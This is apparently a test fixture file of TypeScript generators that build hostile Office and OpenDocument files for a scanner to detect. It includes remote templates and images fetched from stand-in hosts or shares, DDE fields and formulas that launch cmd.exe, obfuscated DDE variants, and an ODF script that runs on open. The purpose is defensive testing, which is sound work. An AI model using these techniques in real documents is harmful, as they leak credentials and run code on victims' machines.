import { docx, openDocument, wordXml, xlsx } from '../office-files.ts'
import type { HostileFile } from './hostile-file.ts'

const text = 'application/vnd.oasis.opendocument.text'
const relations = (kind: string, target: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`
const relation = (kind: string, target: string, part = 'word/_rels/settings.xml.rels'): Buffer =>
  docx(undefined, { [part]: relations(kind, target) })
const remoteTargets = [
  ['the web', 'https://127.0.0.1/x.png'],
  ['a share, as an address', 'file://///evil.example/share/x.png'],
  ['a share, as another address', 'file:////evil.example/share/x.png'],
  ['a share', '\\\\evil.example\\share\\x.png'],
  ['a share in forward slashes', '//evil.example/share/x.png'],
  ['a share in both slashes', '/\\evil.example/share/x.png'],
  ['a share in character references', '&#92;&#92;evil.example&#92;x.png'],
  ['a share in escapes', '%5C%5Cevil.example%5Cx.png'],
  ['a share behind three slashes', 'file:///%5C%5Cevil.example/x.png'],
  ['an unknown protocol', 'search-ms:query=x'],
] as const
const instruction = (code: string): string => `<w:r><w:instrText>${code}</w:instrText></w:r>`
const fieldAround = (code: string): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="end"/></w:r>`
const field = (...pieces: readonly string[]): string => `<w:p>${fieldAround(pieces.map(instruction).join(''))}</w:p>`
const odf = (inside: string): Buffer =>
  openDocument(text, { 'content.xml': `<o:d xmlns:o="o" xmlns:draw="d" xmlns:xlink="x">${inside}</o:d>` })

/** Office files that fetch something or start a program when they are opened. */
export const hostileActive: readonly HostileFile[] = [
  [
    'a template from the web',
    'a.docx',
    () => relation('attachedTemplate', 'https://127.0.0.1/evil.dotm'),
    'remote_content',
  ],
  [
    'a template from a share',
    'a.docx',
    () => relation('attachedTemplate', '\\\\127.0.0.1\\evil.dotm'),
    'remote_content',
  ],
  ['an object from a share', 'a.docx', () => relation('oleObject', 'file://127.0.0.1/evil.docx'), 'remote_content'],
  ...remoteTargets.map(
    ([title, target]): HostileFile => [
      `a picture from ${title}`,
      'a.docx',
      () => relation('image', target),
      'remote_content',
    ],
  ),
  [
    'an external relation disguised as internal',
    'a.docx',
    () => relation('image', 'https://127.0.0.1/x.png" x:TargetMode="Internal'),
    'remote_content',
  ],
  [
    'a chart from a workbook on the web',
    'a.docx',
    () => relation('oleObject', 'https://example.com/book.xlsx', 'word/charts/_rels/chart1.xml.rels'),
    'remote_content',
  ],
  [
    'a video from the web on a slide',
    'a.pptx',
    () => relation('video', 'https://127.0.0.1/a.mp4', 'ppt/slides/_rels/slide1.xml.rels'),
    'remote_content',
  ],
  [
    'a workbook that takes figures from a share',
    'a.xlsx',
    () =>
      xlsx('', '', {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relations(
          'externalLinkPath',
          'file:///\\\\evil.example\\a.xlsx',
        ),
      }),
    'remote_content',
  ],
  ['a DDE field', 'a.docx', () => docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), 'dde'],
  ['a DDE field in pieces', 'a.docx', () => docx(field(' D', 'D', 'E ', 'cmd "/k calc"')), 'dde'],
  ['a DDE field behind two thousand spaces', 'a.docx', () => docx(field(' '.repeat(3000), 'DDE cmd')), 'dde'],
  [
    'a DDE field spelled by another field',
    'a.docx',
    () =>
      docx(fieldAround(`${fieldAround(instruction('QUOTE 68 68 69 65 85 84 79'))}${instruction(' cmd "/k calc"')}`)),
    'dde',
  ],
  [
    'a DDE field of the simple kind',
    'a.docx',
    () => docx('<w:p><w:fldSimple w:instr="ddeauto cmd &quot;/k calc&quot;"/></w:p>'),
    'dde',
  ],
  [
    'a DDE field in a header',
    'a.docx',
    () => docx(undefined, { 'word/header1.xml': wordXml('hdr', field('DDE cmd')) }),
    'dde',
  ],
  [
    'a workbook with a DDE link',
    'a.xlsx',
    () =>
      xlsx('', '', {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    'dde',
  ],
  ['a workbook with a DDE formula', 'a.xlsx', () => xlsx('', "<c><f>cmd|'/c calc'!A0</f></c>"), 'dde'],
  [
    'an OpenDocument with a picture from the web',
    'a.odt',
    () => odf('<draw:image xlink:href="https://127.0.0.1/a.png"/>'),
    'remote_content',
  ],
  [
    'an OpenDocument with a picture from a share, under another prefix',
    'a.odt',
    () => odf('<x:image y:href="file:////evil.example/a.png"/>'),
    'remote_content',
  ],
  [
    'an OpenDocument with an object from a share',
    'a.odt',
    () => odf('<draw:object xlink:href="//evil.example/a.odt"/>'),
    'remote_content',
  ],
  [
    'an OpenDocument with a DDE connection',
    'a.odt',
    () => odf('<text:dde-connection-decl office:dde-application="soffice"/>'),
    'dde',
  ],
  [
    'an OpenDocument workbook with a DDE formula',
    'a.ods',
    () => odf('<t:c t:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"/>'),
    'dde',
  ],
  [
    'an OpenDocument that runs a script of the program when it opens',
    'a.odt',
    () => odf('<script:event-listener xlink:href="vnd.sun.star.script:../../program/python/a.py$b?language=Python"/>'),
    'macros',
  ],
]
